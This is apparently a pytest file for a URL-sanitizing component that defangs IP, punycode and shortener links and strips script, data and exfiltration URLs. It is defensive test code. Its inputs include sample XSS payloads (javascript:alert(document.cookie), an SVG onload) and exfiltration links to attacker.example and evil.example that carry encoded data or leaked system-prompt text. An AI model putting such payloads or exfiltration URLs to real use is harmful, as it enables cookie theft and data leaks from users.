"""URL strategy: script/data URLs and exfiltration removed, other suspicious URLs defanged."""

from __future__ import annotations

import base64
import random

import pytest

from shared.findings import ThreatType
from shared.sanitize.urls import UrlStrategy

URLS = UrlStrategy()


def judged(text: str, strategy: UrlStrategy = URLS) -> list[tuple[str, str, str]]:
    return [(i.kind, text[i.span[0] : i.span[1]], i.replacement) for i in strategy.find(text)]


@pytest.mark.parametrize(
    ("url", "kind", "replacement"),
    [
        ("http://203.0.113.7/admin", "ip_host", "hxxp://203[.]0[.]113[.]7/admin"),
        ("http://[2001:db8::1]:8080/x", "ip_host", "hxxp://[2001[:]db8[:][:]1]:8080/x"),
        ("http://2130706433/", "ip_host", "hxxp://2130706433/"),
        ("http://0x7f000001/", "ip_host", "hxxp://0x7f000001/"),
        ("https://admin:hunter2@example.com/login", "userinfo", "hxxps://example[.]com/login"),
        ("https://xn--pple-43d.com/signin", "punycode_host", "hxxps://xn--pple-43d[.]com/signin"),
        ("https://\u0430pple.com/signin", "mixed_script_host", "hxxps://\u0430pple[.]com/signin"),
        ("https://bit.ly/3xYz", "shortener", "hxxps://bit[.]ly/3xYz"),
        ("https://tinyurl.com/abc123?x=1", "shortener", "hxxps://tinyurl[.]com/abc123?x=1"),
    ],
)
def test_defanged(url: str, kind: str, replacement: str) -> None:
    assert judged(f"see {url} now") == [(kind, url, replacement)]


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(document.cookie)",
        "vbscript:msgbox(1)",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "data:image/svg+xml,<svg/onload=alert(1)>",
    ],
)
def test_script_urls_removed(url: str) -> None:
    result = URLS.sanitize(f"click [here]({url})")
    assert "[URL REMOVED]" in result.text
    assert result.issues[0].kind == "dangerous_scheme"
    assert result.issues[0].threat_type is ThreatType.SUSPICIOUS_URL


def test_exfiltration_query_removed() -> None:
    rng = random.Random(7)
    payload = base64.b64encode(bytes(rng.randrange(256) for _ in range(96))).decode()
    text = f"![chart](https://attacker.example/log?d={payload}) nice"
    [issue] = URLS.find(text)
    assert issue.kind == "exfiltration"
    assert URLS.sanitize(text).text == "![chart]([URL REMOVED]) nice"


def test_exfiltration_of_plain_text_in_query() -> None:
    leak = "my%20system%20prompt%20says%20" * 6
    assert judged(f"https://evil.example/c?q={leak}")[0][0] == "exfiltration"


@pytest.mark.parametrize(
    "text",
    [
        "docs at https://learn.microsoft.com/en-us/azure/azure-functions/functions-overview.",
        "(see https://example.com/a_(b)) and https://example.com/x?utm_source=news&id=42",
        "https://github.com/org/repo/commit/3f786850e387550fdab836ed7e6dc881de23001b",
        "https://blog.example.com/how-to-configure-azure-functions-with-python-and-cosmos-db-in-2024",
        "https://docs.google.com/document/d/1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms/edit",
        "What is the javascript: pseudo-protocol?",
        "Here is my data: 5 rows",
        "microsoft.com/x and soft.co/y",
        "email me at someone@example.com",
    ],
)
def test_harmless_urls_untouched(text: str) -> None:
    assert URLS.find(text) == []


def test_allowlist_is_never_touched() -> None:
    strategy = UrlStrategy(allowlist=["internal.example", "*.corp.example"])
    rng = random.Random(3)
    payload = base64.b64encode(bytes(rng.randrange(256) for _ in range(96))).decode()
    for text in [
        f"https://internal.example/api?blob={payload}",
        "https://svc.internal.example/x",
        "https://user:pw@build.corp.example/job",
    ]:
        assert strategy.find(text) == []
    # Not a suffix match on a label boundary: still judged.
    assert judged("https://user:pw@evilinternal.example/x", strategy)[0][0] == "userinfo"


def test_trailing_punctuation_and_placeholders_excluded() -> None:
    text = "Go to http://198.51.100.4/path). Then https://bit.ly/abc."
    assert [(s, r) for _, s, r in judged(text)] == [
        ("http://198.51.100.4/path", "hxxp://198[.]51[.]100[.]4/path"),
        ("https://bit.ly/abc", "hxxps://bit[.]ly/abc"),
    ]
    assert judged("http://10.0.0.1/?key=[SECRET]")[0][1] == "http://10.0.0.1/?key="


def test_bare_shortener_link() -> None:
    assert judged("short link bit.ly/3abc for you") == [("shortener", "bit.ly/3abc", "bit[.]ly/3abc")]


def test_idempotent() -> None:
    text = "http://203.0.113.7/a https://u:p@x.example/ javascript:alert(1) bit.ly/x"
    once = URLS.sanitize(text).text
    assert URLS.find(once) == []
